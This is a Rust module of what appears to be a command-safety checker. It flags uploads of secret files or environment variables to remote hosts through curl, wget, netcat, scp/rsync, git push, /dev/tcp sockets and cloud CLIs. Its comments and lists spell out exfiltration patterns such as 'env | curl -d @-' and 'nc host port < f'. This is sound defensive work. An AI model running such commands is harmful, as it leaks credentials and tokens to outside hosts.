//! Exfiltration rules: files or the environment sent to another host.
//!
//! Uploads are read from the options that send files (`curl -d @f`, `--data-binary @f`,
//! `-F x=@f`, `-T f`, `wget --post-file`), from stdin redirections and pipelines into network
//! tools (`nc host port < f`, `env | curl -d @-`), and from `scp`/`rsync`/`sftp` operands naming
//! a remote host. A secret payload denies (`exfiltrate-secret-file`), the environment denies
//! (`environment-to-network`), anything else asks; uploads to loopback hosts are left alone.
//!
//! This module must not flag downloads, JSON bodies given inline, or copies between local paths.

use super::Cmd;
use crate::argv::{self, Parsed};
use crate::evaluate::is_harmless_device;
use crate::packs::Findings;
use crate::packs::places;
use crate::shell::{self, Fuel, Origin, RedirectKind, ShellLimits};

/// Programs that send their stdin or files over the network.
const NETWORK: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "openssl", "http", "https",
    "xh",
];

/// The programs [`dumps_environment`] knows.
const ENVIRONMENT_PRINTERS: &[&str] = &[
    "env", "printenv", "set", "export", "declare", "typeset", "compgen",
];

/// What code printing its whole environment holds besides `env` (which `os.environ`,
/// `process.env` and `getenv` hold): awk's `ENVIRON`, Ruby's `ENV`, Perl's `%ENV`. Picks the
/// substitutions worth analysing again.
const ENVIRONMENT_IN_CODE: &[&str] = &["ENV"];

/// Programs that print the environment: one of [`ENVIRONMENT_PRINTERS`] given no operand, a
/// program whose own code lists it (`awk 'BEGIN{for (k in ENVIRON) print k, ENVIRON[k]}'`,
/// `python -c 'print(os.environ)'`), or interpreter code that runs such a program, whose
/// output is the interpreter's (`python3 -c 'import os; os.system("env")'`). Reading that code
/// and the shell text it runs again burns the evaluation's `fuel`.
pub(super) fn dumps_environment(simple: &shell::SimpleCommand, fuel: &Fuel) -> bool {
    lists_environment(simple) || runs_environment_lister(simple, fuel)
}

/// [`dumps_environment`] of the program itself.
fn lists_environment(simple: &shell::SimpleCommand) -> bool {
    let args = simple.args();
    match simple.name() {
        "env" | "printenv" => args.iter().all(|a| a.starts_with('-')),
        "set" => args.is_empty(),
        "export" | "declare" | "typeset" => args
            .iter()
            .all(|a| matches!(a.as_str(), "-p" | "-x" | "-px" | "-xp")),
        "compgen" => args.iter().any(|a| a == "-v" || a == "-e"),
        _ => shell::code_lists_environment(simple),
    }
}

/// Whether interpreter code hands a shell a command that lists the environment (`os.system(
/// "env")`, `subprocess.run(["printenv"])`, Ruby's `system("env")`). The analysis of that
/// text holds the commands nested in it too, so one level is looked at.
fn runs_environment_lister(simple: &shell::SimpleCommand, fuel: &Fuel) -> bool {
    if !shell::is_interpreter(simple.name()) {
        return false;
    }
    let limits = ShellLimits {
        max_len: 4096,
        max_depth: 4,
        max_commands: 64,
        ..ShellLimits::default()
    };
    shell::shell_scripts_of(simple, fuel).iter().any(|script| {
        fuel.analyze(script, &limits)
            .commands
            .iter()
            .any(lists_environment)
    })
}

/// Programs that just pass data along in a pipeline (`env | base64 | curl`).
fn is_filter(name: &str) -> bool {
    matches!(
        name,
        "base64"
            | "base32"
            | "gzip"
            | "bzip2"
            | "xz"
            | "zstd"
            | "xxd"
            | "od"
            | "tr"
            | "sed"
            | "awk"
            | "grep"
            | "sort"
            | "uniq"
            | "tee"
            | "cat"
            | "head"
            | "tail"
            | "cut"
            | "openssl"
            | "jq"
            | "rev"
            | "gpg"
            | "tar"
            | "zip"
    )
}

/// The host a URL (`https://user:token@host:443/x`) or an scp-style address
/// (`git@host:path`) names, without user, password or port.
fn url_host(target: &str) -> &str {
    let rest = target.split_once("://").map_or(target, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    if host.starts_with('[') {
        host.split(']').next().unwrap_or("").trim_start_matches('[')
    } else {
        host.split(':').next().unwrap_or("")
    }
}

/// Whether a URL or host names this machine.
fn is_loopback(target: &str) -> bool {
    let host = url_host(target);
    matches!(
        host,
        "localhost" | "127.0.0.1" | "::1" | "0.0.0.0" | "host.docker.internal"
    ) || host.ends_with(".localhost")
        || host.starts_with("127.")
}

/// A remote `scp`/`rsync` operand: `[user@]host:path` or `scheme://`.
fn is_remote_operand(operand: &str) -> bool {
    if operand.starts_with("rsync://")
        || operand.starts_with("scp://")
        || operand.starts_with("sftp://")
    {
        return true;
    }
    if operand.starts_with('/') || operand.starts_with('.') || operand.starts_with('~') {
        return false;
    }
    match operand.find(':') {
        Some(colon) => !operand.get(..colon).unwrap_or("").contains('/') && colon > 0,
        None => false,
    }
}

/// `git push`'s options that take a separate value.
const GIT_PUSH_LONG_VALUE: &[&str] = &["repo", "push-option", "receive-pack", "exec"];

/// Most earlier commands searched for the `git remote add` that named a pushed remote.
const MAX_REMOTE_LOOKBACK: usize = 64;

/// The address another host is reached at when `cmd` is a `git push` to an address given on the
/// command line: a URL or `host:path` as the repository (`git push https://x.example/r.git
/// HEAD`, `git push --repo=git@x.example:r.git`), or a remote that an earlier command of the
/// same line added or pointed there (`git remote add x URL && git push x`). A remote the
/// repository already has (`git push origin main`), a local path, `file://` and this machine
/// are left alone.
fn pushed_to_address<'a>(cmd: &Cmd<'a>) -> Option<&'a str> {
    let args = cmd.args();
    let (_, sub) = argv::leading_options(
        args,
        argv::GIT_GLOBAL_SHORT_VALUE,
        argv::GIT_GLOBAL_LONG_VALUE,
    );
    let at = sub?;
    if args.get(at).map(String::as_str) != Some("push") {
        return None;
    }
    let parsed = Parsed::new(args.get(at + 1..)?, &['o'], GIT_PUSH_LONG_VALUE);
    let repository = parsed
        .values(&[], &["repo"])
        .first()
        .or(parsed.operands.first())
        .copied()?;
    let address = if is_remote_operand(repository) {
        repository
    } else {
        remote_added_earlier(cmd, repository)?
    };
    let elsewhere = !address.starts_with("file://") && !is_loopback(address);
    elsewhere.then_some(address)
}

/// The URL an earlier command of the same line gave the remote `name` (`git remote add NAME
/// URL`, `git remote set-url NAME URL`), when it names another host.
fn remote_added_earlier<'a>(cmd: &Cmd<'a>, name: &str) -> Option<&'a str> {
    let earlier = cmd.analysis.commands.get(..cmd.index)?;
    earlier
        .iter()
        .rev()
        .take(MAX_REMOTE_LOOKBACK)
        .filter(|command| command.name() == "git")
        .find_map(|command| {
            let args = command.args();
            let (_, sub) = argv::leading_options(
                args,
                argv::GIT_GLOBAL_SHORT_VALUE,
                argv::GIT_GLOBAL_LONG_VALUE,
            );
            let rest = args.get(sub?..)?;
            let operands = Parsed::new(rest, &['t', 'm'], &["track", "master", "push"]).operands;
            match operands.as_slice() {
                ["remote", "add" | "set-url", remote, url, ..] if *remote == name => {
                    is_remote_operand(url).then_some(*url)
                }
                _ => None,
            }
        })
}

fn payload(cmd: &Cmd<'_>, path: &str, recursive: bool, remote: bool, out: &mut Findings) {
    // Which file goes is only known at run time.
    let some_file = || format!("`{}` would send a file to another host", cmd.name());
    let Some(resolved) = places::resolvable(path) else {
        if remote {
            out.add("network-upload-file", some_file());
        }
        return;
    };
    let canonical = cmd.canonical(&resolved);
    let secret = if recursive {
        places::secret_tree(&canonical, &cmd.ctx)
    } else {
        places::secret_file(&canonical, &cmd.ctx)
    };
    match secret {
        Some(secret) => out.add(
            "exfiltrate-secret-file",
            format!(
                "`{}` would send {} (`{canonical}`) to another host",
                cmd.name(),
                secret.what
            ),
        ),
        None if remote && resolved != path => out.add("network-upload-file", some_file()),
        None if remote => out.add(
            "network-upload-file",
            format!("`{}` would send `{canonical}` to another host", cmd.name()),
        ),
        None => {}
    }
}

/// What feeds the command's stdin: the environment, or something else.
fn stdin_payload(cmd: &Cmd<'_>, remote: bool, out: &mut Findings) {
    let upstream = cmd.upstream();
    for (_, up) in &upstream {
        if dumps_environment(up, cmd.fuel) {
            out.add(
                "environment-to-network",
                format!(
                    "the environment (and every token in it) would be sent out by `{}`",
                    cmd.name()
                ),
            );
            return;
        }
        if !is_filter(up.name()) {
            break;
        }
    }
    if remote
        && upstream.first().is_some_and(|(_, up)| {
            !is_filter(up.name()) || up.name() == "cat" || up.name() == "tar"
        })
    {
        out.add(
            "network-upload-file",
            format!("`{}` would send piped data to another host", cmd.name()),
        );
    }
}

/// Whether an argument's substitutions print the environment (`-d "$(env)"`). Analysing them
/// again burns the evaluation's `fuel`.
fn substitutes_environment(arg: &str, fuel: &Fuel) -> bool {
    if !(arg.contains("$(") || arg.contains('`')) {
        return false;
    }
    // Only a substitution naming one of `dumps_environment`'s programs or names prints the
    // environment; the rest (`git diff $(git merge-base HEAD main)`) is not analysed again.
    if !ENVIRONMENT_PRINTERS
        .iter()
        .chain(ENVIRONMENT_IN_CODE)
        .any(|program| arg.contains(program))
    {
        return false;
    }
    let limits = ShellLimits {
        max_len: 4096,
        max_depth: 4,
        max_commands: 64,
        ..ShellLimits::default()
    };
    fuel.analyze(arg, &limits)
        .commands
        .iter()
        .any(|simple| dumps_environment(simple, fuel))
}

/// Whether an `xargs` of the command line is fed the environment (`env | xargs …`).
fn xargs_fed_environment(cmd: &Cmd<'_>) -> bool {
    let commands = &cmd.analysis.commands;
    commands.iter().any(|xargs| {
        xargs.name() == "xargs"
            && xargs.stdin_pipe_from.as_deref().is_some_and(|from| {
                commands
                    .iter()
                    .any(|feeder| feeder.name() == from && dumps_environment(feeder, cmd.fuel))
            })
    })
}

/// Output redirected to bash's network pseudo-devices (`> /dev/tcp/host/port`), or copied
/// there by `tee`.
fn dev_tcp(cmd: &Cmd<'_>, out: &mut Findings) {
    let is_socket = |path: &str| path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/");
    let redirected = cmd
        .simple
        .redirects
        .iter()
        .any(|r| r.kind != RedirectKind::Read && is_socket(&r.target));
    if cmd.name() == "tee" && cmd.args().iter().any(|arg| is_socket(arg)) {
        stdin_payload(cmd, true, out);
    }
    if !redirected {
        return;
    }
    if dumps_environment(cmd.simple, cmd.fuel) {
        out.add(
            "environment-to-network",
            "the environment (and every token in it) would be sent to a `/dev/tcp` socket",
        );
        return;
    }
    let reads = &cmd.effects.reads;
    for read in reads {
        payload(cmd, &read.path, read.recursive, true, out);
    }
    if reads.is_empty() {
        out.add(
            "network-upload-file",
            format!("`{}` writes its output to a network socket", cmd.name()),
        );
    }
}

/// The local files (and `-`, stdin) a storage or sharing client sends to a service: `gh gist
/// create FILES`, `gh issue|pr create|comment -F FILE`, `gh release create|upload … FILES`,
/// `aws s3 cp|mv|sync SRC s3://…`, `gsutil cp|mv|rsync SRC gs://…`, `gcloud storage cp|mv|rsync`,
/// `rclone copy|copyto|move|moveto|sync SRC REMOTE:…` and `rclone rcat` (stdin), `socat
/// FILE:PATH TCP:…`, `mail -A FILE` (and the message on stdin), HTTPie's and xh's request
/// items that send a file (`@FILE`, `field@FILE`, `field=@FILE`, `field:=@FILE`). Empty for
/// anything else.
fn uploads<'a>(name: &str, args: &'a [String]) -> Vec<&'a str> {
    if matches!(name, "http" | "https" | "xh" | "xhs") {
        return args
            .iter()
            .filter(|arg| !arg.starts_with('-'))
            .filter_map(|item| {
                let at = item.find('@')?;
                let (before, path) = item.split_at(at);
                let path = path.get(1..)?;
                // `user@host` in a URL is no item; a file field ends its name with `=` or `:=`
                // before the `@`, or has none.
                let field =
                    before.is_empty() || before.ends_with('=') || !before.contains(['/', ':', '.']);
                (field && !path.is_empty() && !path.contains("://")).then_some(path)
            })
            .collect();
    }
    if !matches!(
        name,
        "gh" | "aws" | "gsutil" | "gcloud" | "rclone" | "socat" | "mail" | "mailx" | "sendmail"
    ) {
        return Vec::new();
    }
    // A copy to a bucket or a remote sends its local sources.
    if let Some((sources, target)) = argv::storage_copy(name, args) {
        if argv::is_local_operand(target) {
            return Vec::new();
        }
        return sources
            .into_iter()
            .filter(|source| *source == "-" || argv::is_local_operand(source))
            .collect();
    }
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    match (name, words.as_slice()) {
        ("gh", ["gist", "create", ..]) => {
            Parsed::new(
                args.get(2..).unwrap_or_default(),
                &['d', 'f'],
                &["desc", "filename"],
            )
            .operands
        }
        ("gh", ["issue" | "pr", "create" | "comment" | "edit", ..]) => Parsed::new(
            args.get(2..).unwrap_or_default(),
            &['F', 't', 'b', 'a', 'l', 'm', 'p', 'B', 'H', 'R'],
            &[
                "body-file",
                "title",
                "body",
                "assignee",
                "label",
                "milestone",
                "project",
                "base",
                "head",
                "repo",
            ],
        )
        .values(&['F'], &["body-file"]),
        ("gh", ["release", "create" | "upload", _tag, ..]) => {
            Parsed::new(
                args.get(3..).unwrap_or_default(),
                &['t', 'n', 'F', 'R'],
                &[
                    "title",
                    "notes",
                    "notes-file",
                    "target",
                    "repo",
                    "discussion-category",
                ],
            )
            .operands
        }
        ("rclone", ["rcat", ..]) => vec!["-"],
        ("socat", _) => {
            let addresses: Vec<&str> = words
                .iter()
                .copied()
                .filter(|w| !w.starts_with('-') || *w == "-")
                .collect();
            let networked = addresses.iter().any(|address| {
                let kind = address
                    .split([':', ','])
                    .next()
                    .unwrap_or("")
                    .to_ascii_uppercase();
                kind.starts_with("TCP")
                    || kind.starts_with("UDP")
                    || kind.starts_with("SSL")
                    || kind.starts_with("OPENSSL")
                    || kind.starts_with("SCTP")
            });
            if !networked {
                return Vec::new();
            }
            addresses
                .iter()
                .filter_map(|address| {
                    let (kind, rest) = address.split_once(':')?;
                    matches!(
                        kind.to_ascii_uppercase().as_str(),
                        "FILE" | "OPEN" | "GOPEN" | "READ"
                    )
                    .then(|| rest.split(',').next().unwrap_or(rest))
                })
                .collect()
        }
        ("mail" | "mailx", _) => {
            let mut files = Parsed::new(
                args,
                &['A', 'a', 's', 'c', 'b', 'r'],
                &["attach", "subject"],
            )
            .values(&['A', 'a'], &["attach"]);
            files.push("-");
            files
        }
        ("sendmail", _) => vec!["-"],
        _ => Vec::new(),
    }
}

pub(super) fn check(cmd: &Cmd<'_>, out: &mut Findings) {
    dev_tcp(cmd, out);
    let name = cmd.name();
    let args = cmd.args();
    if shell::NETWORK_PROGRAMS.contains(&name)
        && args
            .iter()
            .any(|arg| substitutes_environment(arg, cmd.fuel))
    {
        out.add(
            "environment-to-network",
            format!("the environment (and every token in it) would be sent out by `{name}`"),
        );
    }
    // A storage client's upload of an ordinary file is everyday publishing (`aws s3 sync ./site
    // s3://bucket`); a secret or the environment is not. socat to a socket is netcat.
    // HTTPie's and xh's file items are curl's `-d @FILE`, which asks for any file.
    let ordinary_asks = matches!(name, "socat" | "http" | "https" | "xh" | "xhs");
    for file in uploads(name, args) {
        if file == "-" {
            if cmd.simple.stdin_pipe_from.is_some() {
                stdin_payload(cmd, ordinary_asks, out);
            }
        } else {
            payload(cmd, file, true, ordinary_asks, out);
        }
    }
    // `env | xargs -I% curl x.example/%`: what the pipe carries becomes the arguments.
    if shell::NETWORK_PROGRAMS.contains(&name)
        && cmd.simple.origin == Origin::Xargs
        && xargs_fed_environment(cmd)
    {
        out.add(
            "environment-to-network",
            format!("the environment (and every token in it) would be sent out by `{name}`"),
        );
    }
    match name {
        "curl" => {
            let parsed = argv::curl(args);
            let mut urls: Vec<&str> = parsed.operands.clone();
            urls.extend(parsed.values(&[], &["url"]));
            let remote = urls.is_empty() || urls.iter().any(|url| !is_loopback(url));
            let mut from_stdin = false;
            let mut files: Vec<&str> = parsed
                .values(&['d'], &["data", "data-binary", "data-ascii", "json"])
                .into_iter()
                .filter_map(|value| value.strip_prefix('@'))
                .collect();
            files.extend(
                parsed
                    .values(&[], &["data-urlencode"])
                    .into_iter()
                    .filter_map(|value| value.split_once('@'))
                    .filter(|(name, _)| !name.contains('='))
                    .map(|(_, file)| file),
            );
            for file in files {
                {
                    if file == "-" {
                        from_stdin = true;
                    } else {
                        payload(cmd, file, false, remote, out);
                    }
                }
            }
            for value in parsed.values(&['F'], &["form"]) {
                if let Some((_, file)) = value.split_once("=@").or_else(|| value.split_once("=<")) {
                    let file = file.split(';').next().unwrap_or(file);
                    if file == "-" {
                        from_stdin = true;
                    } else {
                        payload(cmd, file, false, remote, out);
                    }
                }
            }
            for file in parsed.values(&['T'], &["upload-file"]) {
                if file == "-" || file == "." {
                    from_stdin = true;
                } else {
                    payload(cmd, file, false, remote, out);
                }
            }
            if from_stdin {
                stdin_payload(cmd, remote, out);
            }
        }
        "wget" => {
            let parsed = argv::wget(args);
            let remote = parsed.operands.iter().any(|url| !is_loopback(url));
            for file in parsed.values(&[], &["post-file", "body-file"]) {
                payload(cmd, file, false, remote, out);
            }
        }
        "scp" | "sftp" | "rsync" => {
            let parsed = if name == "rsync" {
                crate::argv::rsync(args)
            } else {
                Parsed::new(
                    args,
                    &[
                        'c', 'D', 'F', 'i', 'J', 'l', 'o', 'P', 'S', 'X', 'b', 'B', 'R',
                    ],
                    &[],
                )
            };
            if let Some((destination, sources)) = parsed.operands.split_last()
                && is_remote_operand(destination)
            {
                let recursive = name == "rsync" || parsed.has(&['r'], &["recursive"]);
                for source in sources.iter().filter(|s| !is_remote_operand(s)) {
                    payload(cmd, source, recursive, true, out);
                }
            }
        }
        "git" => {
            if let Some(url) = pushed_to_address(cmd) {
                out.add(
                    "network-upload-file",
                    format!(
                        "`git push` would send the repository to `{}`, an address given on \
                         the command line rather than a remote the repository already has",
                        url_host(url)
                    ),
                );
            }
        }
        _ if NETWORK.contains(&name) => {
            let listening = Parsed::new(args, &[], &[]).has(&['l'], &["listen"]);
            if listening {
                return;
            }
            // `< /dev/null` sends nothing (`openssl s_client -connect h:443 < /dev/null`).
            for redirect in &cmd.simple.redirects {
                if redirect.kind == RedirectKind::Read && !is_harmless_device(&redirect.target) {
                    payload(cmd, &redirect.target, false, true, out);
                }
            }
            if cmd.simple.stdin_pipe_from.is_some() {
                stdin_payload(
                    cmd,
                    matches!(name, "nc" | "ncat" | "netcat" | "socat" | "telnet" | "ssh"),
                    out,
                );
            }
        }
        _ => {}
    }
}
